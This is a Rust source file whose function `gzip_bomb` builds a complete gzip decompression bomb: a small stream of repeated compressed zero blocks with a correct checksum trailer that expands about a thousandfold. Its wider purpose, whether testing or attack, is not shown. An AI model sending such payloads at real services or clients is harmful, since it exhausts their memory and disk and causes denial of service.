use std::io;

use flate2::{Compress, Compression, Crc, FlushCompress, Status};

use super::payload::Payload;

/// What one repeated block unpacks to, bytes.
const BLOCK: usize = 1 << 20;

/// A gzip stream, right to its last byte, that unpacks to `bytes` of zeros (whole MiB) from a thousandth of that.
pub(super) fn gzip_bomb(bytes: u64) -> io::Result<Payload> {
    let blocks = bytes.div_ceil(BLOCK as u64);
    let zeros = vec![0_u8; BLOCK];
    let mut block = Vec::with_capacity(BLOCK);
    let status =
        Compress::new(Compression::best(), false).compress_vec(&zeros, &mut block, FlushCompress::Full);
    if !matches!(status, Ok(Status::Ok)) {
        return Err(io::ErrorKind::InvalidData.into());
    }
    let header = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    // RFC 1951: a last block that holds nothing; RFC 1952: checksum and length of what was packed.
    let mut end = vec![0x03, 0x00];
    end.extend(checksum(&zeros, blocks).to_le_bytes());
    end.extend(((blocks as u32).wrapping_mul(BLOCK as u32)).to_le_bytes());
    Ok(Payload::repeated(header, block, blocks, end))
}

/// The checksum over `times` copies of `bytes`.
fn checksum(bytes: &[u8], times: u64) -> u32 {
    let (mut whole, mut one) = (Crc::new(), Crc::new());
    one.update(bytes);
    for _ in 0..times {
        whole.combine(&one);
    }
    whole.sum()
}
